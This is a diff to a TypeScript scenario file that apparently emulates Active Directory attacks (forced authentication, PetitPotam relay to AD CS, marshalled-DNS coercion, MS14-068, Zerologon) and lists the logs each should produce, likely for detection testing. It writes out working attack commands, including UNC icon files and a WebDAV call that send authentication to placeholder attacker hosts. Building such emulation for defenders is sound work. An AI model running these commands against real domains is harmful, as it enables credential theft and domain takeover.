@@ -124,21 +124,139 @@ export const credentialAccessB = [
   t(
     "T1187",
     "Forced authentication",
-    "SMB/WebDAV authentication coerced with .url/.scf files or PetitPotam-style RPC.",
+    "SMB/WebDAV authentication coerced with .scf/.url files on a share or PetitPotam-style RPC, incl. the marshalled-SPN DNS trick.",
     [
+      // An .scf with a UNC icon on a busy share: every user who browses the folder authenticates to the attacker.
       v("scf-on-share", [
         {
-          cmd: "cmd.exe /c copy {{tools}}\\@{{rand}}.scf \\\\{{srv}}\\Public\\@{{rand}}.scf",
+          cmd: "cmd.exe /c (echo [Shell]& echo Command=2& echo IconFile=\\\\{{meip}}\\share\\icon.ico) > {{tmp}}\\@{{rand}}.scf",
+          files: ["{{tmp}}\\@{{rand}}.scf"],
+        },
+        {
+          cmd: "cmd.exe /c copy {{tmp}}\\@{{rand}}.scf \\\\{{srv}}\\Public\\@{{rand}}.scf",
           net: [["@server", 445]],
         },
+        // A colleague opening the share on another workstation: the SMB client (System) reaches out.
+        { by: "@system", host: "@workstation2", net: [["{{meip}}", 445]] },
       ]),
+      v("url-icon-file", [
+        {
+          cmd: "cmd.exe /c (echo [InternetShortcut]& echo URL=https://intranet& echo IconIndex=1& echo IconFile=\\\\{{meip}}\\s\\favicon.ico) > \\\\{{srv}}\\Shared\\Finance\\~Budget.url",
+          net: [["@server", 445]],
+        },
+        { by: "@system", host: "@workstation2", net: [["{{meip}}", 445]] },
+      ]),
+      // PetitPotam → ntlmrelayx (on the attacker's second box) → AD CS web enrollment: the DC's machine account
+      // gets a certificate, used from the foothold for a PKINIT TGT as the DC (then DCSync).
       v("petitpotam", [
         {
-          cmd: "{{tools}}\\PetitPotam.exe {{meip}} {{dcip}}",
+          cmd: "{{tools}}\\PetitPotam.exe {{ws2ip}} {{dcip}}",
           net: [["@dc", 445]],
           pipeConnects: ["\\lsarpc"],
+          then: [
+            {
+              id: "coerced",
+              kind: "network.connect",
+              proc: "@system",
+              host: "@dc",
+              remote: "{{ws2ip}}",
+              port: 445,
+            },
+            {
+              id: "relayed",
+              kind: "logon",
+              host: "@server",
+              session: "certsrv",
+              user: "{{dc}}$",
+              logonType: 3,
+              source: "@workstation2",
+              authPackage: "NTLM",
+            },
+          ],
+        },
+        {
+          cmd: "{{tools}}\\Rubeus.exe asktgt /user:{{dc}}$ /certificate:{{tools}}\\{{dc}}.pfx /ptt /nowrap",
+          reads: ["{{tools}}\\{{dc}}.pfx"],
+          net: [["@dc", 88]],
+          then: [
+            {
+              id: "pkinit",
+              kind: "kerberos.tgt",
+              host: "@dc",
+              user: "{{dc}}$",
+              source: "@workstation",
+              preAuthType: "16",
+              certificate: {
+                issuer: "{{domain}}-{{srv}}-CA",
+                serial: "{{rand2}}{{rand}}",
+                thumbprint: "{{hex40}}",
+              },
+            },
+          ],
         },
       ]),
+      // CVE-2025-33073 style: a DNS record whose name carries a marshalled CREDENTIAL_TARGET_INFORMATION,
+      // checked with nslookup, then the server coerced to it (Powermad + PetitPotam).
+      v(
+        "marshalled-dns-coercion",
+        [
+          {
+            ps: "Import-Module .\\Powermad.ps1; Invoke-DNSUpdate -DNSType A -DNSName {{srv}}1UWhRCAAAAAAAAAAAAAAAAAAAAAAAAAAAAwbEAYBAAAA -DNSData {{ws2ip}} -Realm {{dns}}",
+            net: [["@dc", 389]],
+            // Any domain user may add a record to the ADIDNS zone: the DC logs the new dnsNode (5137).
+            then: [
+              {
+                id: "ldap",
+                kind: "logon",
+                host: "@dc",
+                session: "ldap",
+                user: "@user",
+                logonType: 3,
+                source: "@workstation",
+                authPackage: "Kerberos",
+              },
+              {
+                id: "record",
+                kind: "directory.change",
+                host: "@dc",
+                session: "ldap",
+                operation: "create",
+                object:
+                  "DC={{srv}}1UWhRCAAAAAAAAAAAAAAAAAAAAAAAAAAAAwbEAYBAAAA,DC={{dns}},CN=MicrosoftDNS,DC=DomainDnsZones,{{domaindn}}",
+                objectClass: "dnsNode",
+                delayMs: 300,
+              },
+            ],
+          },
+          {
+            cmd: "nslookup.exe {{srv}}1UWhRCAAAAAAAAAAAAAAAAAAAAAAAAAAAAwbEAYBAAAA {{dcip}}",
+            net: [["@dc", 53]],
+          },
+          {
+            cmd: "{{tools}}\\PetitPotam.exe {{srv}}1UWhRCAAAAAAAAAAAAAAAAAAAAAAAAAAAAwbEAYBAAAA {{srvip}}",
+            net: [["@server", 445]],
+            pipeConnects: ["\\lsarpc"],
+            then: [
+              {
+                id: "lookup",
+                kind: "dns.query",
+                proc: "@lsass",
+                host: "@server",
+                name: "{{srv}}1UWhRCAAAAAAAAAAAAAAAAAAAAAAAAAAAAwbEAYBAAAA.{{dns}}",
+              },
+              {
+                id: "smb",
+                kind: "network.connect",
+                proc: "@system",
+                host: "@server",
+                remote: "{{ws2ip}}",
+                port: 445,
+              },
+            ],
+          },
+        ],
+        { shell: "ps" },
+      ),
       v("rundll32-webdav", [
         {
           cmd: "rundll32.exe C:\\Windows\\System32\\davclnt.dll,DavSetCookie {{c2}} http://{{c2}}/share",
@@ -147,17 +265,90 @@ export const credentialAccessB = [
       ]),
     ],
   ),
-  t("T1212", "Credential access exploit", "A public exploit (e.g. Zerologon) run against the DC.", [
-    v("zerologon", [
-      {
-        cmd: "{{tools}}\\zerologon.exe {{dc}} {{dcip}}",
-        net: [
-          ["@dc", 135],
-          ["@dc", 49667],
+  t(
+    "T1212",
+    "Credential access exploit",
+    "Public exploits against the DC: MS14-068 PAC forgery, Zerologon.",
+    [
+      // PyKEK/kekeo ask for a PAC-less TGT, then a TGT carrying a forged PAC; a patched KDC refuses the MD5
+      // checksum with KDC_ERR_SUMTYPE_NOSUPP (0xF).
+      v(
+        "ms14-068-kekeo",
+        [
+          {
+            cmd: '{{tools}}\\kekeo.exe "exploit::ms14068 /domain:{{dns}} /user:{{user}} /password:{{$pw}} /ptt" exit',
+            net: [["@dc", 88]],
+            then: [
+              {
+                id: "tgt",
+                kind: "kerberos.tgt",
+                host: "@dc",
+                user: "@user",
+                source: "@workstation",
+                encryption: "0x17",
+              },
+              {
+                id: "forged",
+                kind: "kerberos.tgs",
+                host: "@dc",
+                user: "@user",
+                service: "krbtgt",
+                source: "@workstation",
+                encryption: "0x17",
+                status: "0xf",
+              },
+            ],
+          },
         ],
-      },
-    ]),
-  ]),
+        { vars: { pw: "{{Summer2024!|Welcome1!|P@ssw0rd123}}" } },
+      ),
+      v(
+        "ms14-068-goldenpac",
+        [
+          {
+            // Impacket's goldenPac looks the user's SID up over LSARPC first, then runs the MS14-068 exchange.
+            cmd: "python.exe goldenPac.py {{dns}}/{{user}}:{{$pw}}@{{dcfqdn}}",
+            image: "C:\\Program Files\\Python311\\python.exe",
+            cwd: "{{tools}}\\impacket\\examples",
+            net: [
+              ["@dc", 445],
+              ["@dc", 88],
+            ],
+            then: [
+              {
+                id: "tgt",
+                kind: "kerberos.tgt",
+                host: "@dc",
+                user: "@user",
+                source: "@workstation",
+                encryption: "0x17",
+              },
+              {
+                id: "forged",
+                kind: "kerberos.tgs",
+                host: "@dc",
+                user: "@user",
+                service: "krbtgt",
+                source: "@workstation",
+                encryption: "0x17",
+                status: "0xf",
+              },
+            ],
+          },
+        ],
+        { vars: { pw: "{{Summer2024!|Welcome1!|P@ssw0rd123}}" } },
+      ),
+      v("zerologon", [
+        {
+          cmd: "{{tools}}\\SharpZeroLogon.exe {{dcfqdn}} -reset",
+          net: [
+            ["@dc", 135],
+            ["@dc", 49667],
+          ],
+        },
+      ]),
+    ],
+  ),
   t("T1539", "Web session cookie theft", "Browser cookie databases copied or read while the browser runs.", [
     v("copy-cookies", [
       {
